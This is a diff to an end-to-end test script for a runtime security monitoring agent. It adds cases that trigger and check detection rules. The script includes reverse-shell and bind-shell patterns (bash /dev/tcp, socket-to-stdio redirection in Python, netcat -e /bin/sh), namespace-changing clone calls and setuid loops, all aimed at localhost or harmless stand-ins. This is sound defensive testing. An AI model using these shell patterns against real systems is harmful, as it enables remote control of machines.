@@ -58,6 +58,10 @@ cat >"$tmp/extra.yaml" <<YAML
   condition: evt.type = exec and proc.name = $m-a
   output: "marker a %proc.name"
   priority: NOTICE
+- rule: Marker U
+  condition: evt.type = exec and proc.name = $m-u
+  output: "marker u user=%user.name uid=%user.uid container=%container.id"
+  priority: NOTICE
 YAML
 port=$(free_port)
 cat >"$tmp/agent.yaml" <<YAML
@@ -107,6 +111,19 @@ bg_pid $!
 wait_for 5 test -s "$tmp/lport"
 bash -c "exec 3<>/dev/tcp/127.0.0.1/$(cat "$tmp/lport"); echo $m >&3" || true   # reverse shell
 bash -c "echo $m-benign-devnull > /dev/null"
+lp=$(cat "$tmp/lport")
+$PY -c "
+import os, socket
+s = socket.create_connection(('127.0.0.1', $lp)); os.dup2(s.fileno(), 0); os.dup2(s.fileno(), 1)" </dev/null >/dev/null
+$PY -c "
+import os, socket
+a, b = socket.socketpair(); os.dup2(a.fileno(), 0)                     # a unix socket: fine
+s = socket.create_connection(('127.0.0.1', $lp)); os.dup2(s.fileno(), 7)  # not stdio: fine"
+bash -c "exec 0</dev/tcp/127.0.0.1/$lp; true"                         # stdin from the network
+ln -s $PY "$tmp/ncat"
+bind_shell="import socket; s = socket.socket(); s.bind(('127.0.0.1', 0)); s.listen(); c = socket.create_connection(s.getsockname()); a, _ = s.accept()"
+"$tmp/ncat" -c "$bind_shell"                                           # a bind shell accepts
+$PY -c "$bind_shell"                                                   # ... a python server: fine
 cp /bin/true "$tmp/nc"; cp /bin/true "$tmp/nmap"
 "$tmp/nc" -e /bin/sh 127.0.0.1 9 "$m"                      # netcat -e
 "$tmp/nc" -z 127.0.0.1 9 "$m-benign"
@@ -133,6 +150,13 @@ cg=$(grep -m1 cgroup2 /proc/mounts | awk '{print $2}')/system.slice/docker-$(pri
 mkdir -p "$cg"
 sh -c "echo \$\$ > $cg/cgroup.procs; exec dpkg --version" >/dev/null
 dpkg --version >/dev/null                                   # on the host: fine
+# user.name as the container sees it: a static program in a root of its own with its own
+# /etc/passwd (uid 4242 is "app-$$" there, nobody on the host), in the Docker-shaped cgroup.
+mkdir -p "$tmp/root/etc"
+echo "app-$$:x:4242:4242::/:/bin/sh" >"$tmp/root/etc/passwd"
+printf '#include <unistd.h>\nint main(void) { sleep(2); return 0; }\n' >"$tmp/sleep2.c"
+cc -static -o "$tmp/root/$m-u" "$tmp/sleep2.c"
+sh -c "echo \$\$ > $cg/cgroup.procs; exec chroot --userspec=4242:4242 $tmp/root /$m-u"
 $PY -c "
 import socket, time
 srv = socket.socket(); srv.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1); srv.bind(('127.0.0.1', 4444)); srv.listen()
@@ -174,6 +198,15 @@ libc.mount(b"tmpfs", mnt, b"tmpfs", 0, None); libc.umount(mnt)
 if os.fork() == 0:
     libc.unshare(0x40000000); os._exit(0)                        # CLONE_NEWNET
 os.wait()
+pid = libc.syscall(56, 0x04000000 | 17, 0, 0, 0, 0)              # clone(CLONE_NEWUTS|SIGCHLD)
+if pid == 0: os._exit(0)
+os.waitpid(pid, 0)
+args = (ctypes.c_uint64 * 8)(0x08000000, 0, 0, 0, 17, 0, 0, 0)   # clone_args: CLONE_NEWIPC
+pid = libc.syscall(435, args, 64)                                # clone3
+if pid == 0: os._exit(0)
+os.waitpid(pid, 0)
+if os.fork() == 0: os._exit(0)                                   # a plain fork: fine
+os.wait()
 PYSEC
 unshare -n true                                            # the unshare tool: allowed
 mount -t tmpfs tmpfs "$tmp/mnt2" && umount "$tmp/mnt2"     # mount(8): allowed
@@ -185,10 +218,10 @@ cp "$tmp/nginx" "$tmp/$m-a"; "$tmp/$m-a" /bin/true  # marker A
 
 # Every alert reaches the JSON file: check each rule, and that its look-alike did not fire.
 sleep 2
-python3 - "$tmp/alerts.jsonl" "$m" <<'PY' || fail "alerts: $(cut -c1-300 "$tmp/alerts.jsonl")"
-import json, sys
+python3 - "$tmp/alerts.jsonl" "$m" "$lp" $$ <<'PY' || fail "alerts: $(cut -c1-300 "$tmp/alerts.jsonl")"
+import json, os, sys
 alerts = [json.loads(l) for l in open(sys.argv[1])]
-m = sys.argv[2]
+m, lp = sys.argv[2], sys.argv[3]
 def fired(rule, needle):
     return any(a["rule"] == rule and needle in a["output"] for a in alerts)
 want = [
@@ -220,6 +253,13 @@ want = [
     ("Another process's memory accessed", "process_vm_readv", None),
     ("BPF program loaded by an unexpected process", "python3", None),
     ("Namespace change by a non-runtime process", "CLONE_NEWNET (program=python3", "program=unshare"),
+    ("Namespace change by a non-runtime process", "clone CLONE_NEWUTS (program=python3", "clone  ("),
+    ("Namespace change by a non-runtime process", "clone3 CLONE_NEWIPC (program=python3", None),
+    ("Standard input or output redirected to a network connection", "fd 0 of python3 redirected to a network connection (to=127.0.0.1:" + lp, "to=:0"),
+    ("Standard input or output redirected to a network connection", "fd 1 of python3 redirected", "fd 7 of"),
+    ("Standard input or output redirected to a network connection", "fd 0 of bash redirected", None),
+    ("Inbound connection to a shell or netcat", "Inbound connection to ncat (from=127.0.0.1:", "Inbound connection to python3"),
+    ("Marker U", "user=app-" + sys.argv[4] + " uid=4242 container=e2e", None),
     ("Mount by an unexpected program", "/mnt (result=0 program=python3", "program=mount"),
     ("Setuid or setgid bit set", "suid-" + m, "plain-" + m),
     ("Log file deleted", "/var/log/" + m + "-del.log", "/tmp/"),
@@ -243,10 +283,22 @@ wait_for 10 grep -q '"rule":"Sensitive file read by an unexpected program"' "$tm
 wait_for 10 bash -c "curl -sf http://127.0.0.1:$amport/api/v2/alerts | grep -q '\"alertname\":\"Sensitive file read by an unexpected program\"'" \
   || fail "alertmanager: $(curl -sf http://127.0.0.1:$amport/api/v2/alerts | head -c 500)"
 
-# SIGHUP: the file now names marker B; A no longer fires.
+# A syscall no rule names is attached but off in the kernel: 200 setuid calls send nothing.
+ln -s $PY "$tmp/$m-su"
+syscall_events() { curl -sf http://127.0.0.1:$port/metrics | awk '/^sightline_events_total\{.*kind="syscall"/ {print $2}'; }
+before=$(syscall_events)
+"$tmp/$m-su" -c "import os; [os.setuid(0) for _ in range(200)]"
+sleep 0.5
+after=$(syscall_events)
+(( after - before < 100 )) || fail "setuid calls were sent with no rule on them: $before -> $after syscall events"
+
+# SIGHUP: the file now names marker B; A no longer fires; a rule on setuid turns it on.
 sed -i "s/Marker A/Marker B/; s/$m-a/$m-b/; s/marker a/marker b/" "$tmp/extra.yaml"
+printf -- '- rule: Marker S\n  condition: evt.type = syscall and syscall.name = setuid and proc.name = %s-su\n  output: "marker s %%syscall.name"\n  priority: notice\n' "$m" >>"$tmp/extra.yaml"
 kill -HUP $agent
 wait_for 5 grep -q "rules: reloaded" "$tmp/agent.log" || fail "no reload: $(tail -5 "$tmp/agent.log")"
+"$tmp/$m-su" -c "import os; os.setuid(0)"
+wait_for 5 grep -q '"rule":"Marker S"' "$tmp/alerts.jsonl" || fail "a syscall named by a reloaded rule was not turned on"
 cp "$tmp/nginx" "$tmp/$m-b"
 "$tmp/$m-a" /bin/true; "$tmp/$m-b" /bin/true
 wait_for 5 grep -q '"rule":"Marker B"' "$tmp/alerts.jsonl" || fail "the reloaded rule did not fire"
